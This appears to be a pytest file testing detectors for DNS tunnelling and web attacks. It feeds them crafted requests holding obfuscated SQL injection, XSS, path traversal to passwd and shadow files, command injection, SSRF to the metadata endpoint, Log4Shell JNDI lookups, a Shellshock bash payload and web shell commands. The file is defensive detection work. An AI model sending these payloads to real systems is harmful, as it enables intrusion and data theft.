"""DNS tunnelling and web exploitation analytics on crafted queries and requests."""

from __future__ import annotations

import base64
import random

import pytest

from security.analytics.dnstunnel import encoded
from security.analytics.webattack import attack_kinds, normalise
from security.records import DnsQuery, HttpRequest
from tests.security._analytics_helpers import T0, engine, run


@pytest.mark.parametrize("how", ["hex", "base32", "base64"])
def test_analytics_dns_tunnel_short_encoded_labels_slowly(how):
    rng = random.Random(4)
    recs = []
    for i in range(60):
        data = rng.randbytes(10)
        label = {"hex": data.hex(), "base32": base64.b32encode(data).decode().rstrip("=").lower(),
                 "base64": base64.urlsafe_b64encode(data).decode().rstrip("=").lower()}[how]
        recs.append(DnsQuery(T0 + i * 30, "10.1.1.7", "10.1.0.53", f"{label}.sync-cdn.xyz", "A"))
    found = run(engine(), recs)
    assert [(f.rule, f.entity, f.technique) for f in found] == [("dns_tunnel_slow", "10.1.1.7", "T1071.004")]
    assert found[0].destination_domain == "sync-cdn.xyz" and found[0].observed["encoded_share"] >= 0.6


def test_analytics_dns_tunnel_txt_records_and_common_services():
    recs = [DnsQuery(T0 + i * 20, "10.1.1.8", "10.1.0.53", f"c{i}x.q.tun.io", "TXT") for i in range(40)]
    # an antivirus reputation service: hex digests, TXT, but every host asks it
    recs += [DnsQuery(T0 + i, f"10.1.2.{i % 10}", "10.1.0.53", f"{random.Random(i).randbytes(16).hex()}.rep.av.vn",
                      "TXT") for i in range(200)]
    found = run(engine(), recs)
    assert [(f.entity, f.destination_domain) for f in found] == [("10.1.1.8", "tun.io")]


def test_analytics_dns_encoded_label_classifier():
    assert encoded("4f9a0c3b2e1d77aa") == "hex"
    assert encoded("mfrggzdfmztwq2lk") == "base32"
    assert encoded("www") is None and encoded("thanhnien-online") is None


@pytest.mark.parametrize("target,kind", [
    ("/s?q=%2527%2520OR%2520%25271%2527%253D%25271", "sql_injection"),  # double URL
    ("/s?q=1%20UNION/**/SELECT/**/pass%20FROM%20users", "sql_injection"),
    ("/s?q=&#60;script&#62;alert(1)&#60;/script&#62;", "xss"),  # HTML entities
    ("/s?q=%u003cscript%u003ealert(1)", "xss"),  # %u escapes
    ("/s?q=\\u003cSvG onLoad=alert(1)\\u003e", "xss"),  # \\u escapes, case tricks
    ("/dl?f=..%252f..%252fetc%252fpasswd", "path_traversal"),
    ("/dl?f=....//....//etc/shadow", "path_traversal"),
    ("/ping?h=1.1.1.1%7Cid", "command_injection"),
    ("/p?u=http://169.254.169.254/latest/meta-data/", "ssrf"),
    ("/q?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%2Fa%7D", "log4shell"),
])
def test_analytics_web_encodings_are_undone(target, kind):
    assert kind in attack_kinds(target)


def test_analytics_web_benign_targets_match_nothing():
    for t in ["/tim-kiem?q=nguyen+van+a%27s+ho+so", "/api/thoi-tiet?lat=10.03&lon=105.78", "/list?page=2&id=7",
              "/tin-tuc/le-hoi?ref=home&sort=desc", "/static/js/app.js?v=3.1"]:
        assert attack_kinds(t) == [], t
    assert normalise("%2541") == "a"


def test_analytics_web_log4shell_in_user_agent_and_shellshock_in_referer():
    recs = [HttpRequest(T0, "45.1.1.1", "GET", "/", 200, 10, user_agent="${${::-j}ndi:ldap://x:1389/a}"),
            HttpRequest(T0 + 5, "45.1.1.2", "GET", "/cgi-bin/status", 200, 10,
                        referrer="() { :; }; /bin/bash -c 'id'", user_agent="Mozilla/5.0 (X11; Linux)"),
            HttpRequest(T0 + 9, "14.161.1.1", "GET", "/tin-tuc", 200, 10, user_agent="Mozilla/5.0 (iPhone; CPU)")]
    found = {f.entity: f for f in run(engine(), recs)}
    assert set(found) == {"45.1.1.1", "45.1.1.2"}
    assert "log4shell (header)_requests" in found["45.1.1.1"].observed
    assert found["45.1.1.2"].technique == "T1190"


def test_analytics_web_shell_access_not_in_the_baseline():
    base = [HttpRequest(T0 - 86400, "14.1.1.1", "GET", "/index.php", 200, 100)]
    recs = [HttpRequest(T0 + i, "89.1.1.1", "POST", "/uploads/x.php", 200, 500) for i in range(3)]
    recs += [HttpRequest(T0 + 9, "14.1.1.2", "GET", "/index.php?c=home", 200, 100)]
    recs += [HttpRequest(T0 + 11, "89.1.1.3", "GET", "/tools/run.jsp?cmd=whoami", 200, 50)]
    found = run(engine(base), recs)
    assert sorted((f.entity, f.technique) for f in found) == [("89.1.1.1", "T1505.003"), ("89.1.1.3", "T1505.003")]
